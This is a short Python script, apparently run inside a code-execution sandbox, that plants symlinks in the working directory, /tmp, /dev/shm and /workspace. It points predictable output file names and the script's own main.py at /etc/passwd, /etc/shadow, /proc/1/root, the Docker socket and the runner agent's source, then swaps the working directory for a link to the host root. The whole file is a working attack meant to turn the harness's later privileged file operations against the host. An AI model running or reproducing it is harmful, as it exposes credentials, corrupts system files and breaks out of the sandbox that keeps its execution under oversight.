"""What a privileged chown, chmod, write or delete would follow."""
import os

here = os.getcwd()
for number, goal in enumerate(
    ("/etc/passwd", "/etc", "/", "/proc/1/root", "/proc/1/root/etc/shadow", "/proc/1/cwd", "/proc/self/root", "/proc/1/environ",
     "/proc/1/fd/1", "/opt/coderunner/agent/__main__.py", "/var/run/docker.sock", "/dev/null", "/workspace", "..", "/proc/1/fd")
):
    for place in (here, "/tmp", "/dev/shm", "/var/tmp", "/workspace"):
        os.symlink(goal, f"{place}/link{number}")
for name in ("stdout", "stderr", "output", "program", "main.pyc", "result", "task-0000000000000000"):
    for place in (here, "/workspace", "/tmp"):
        try:
            os.symlink("/etc/passwd", f"{place}/{name}")
        except FileExistsError:
            pass
os.unlink("main.py")
os.symlink("/etc/shadow", "main.py")
os.rename(here, f"{here}.away")
os.symlink("/proc/1/root", here)
print("planted")
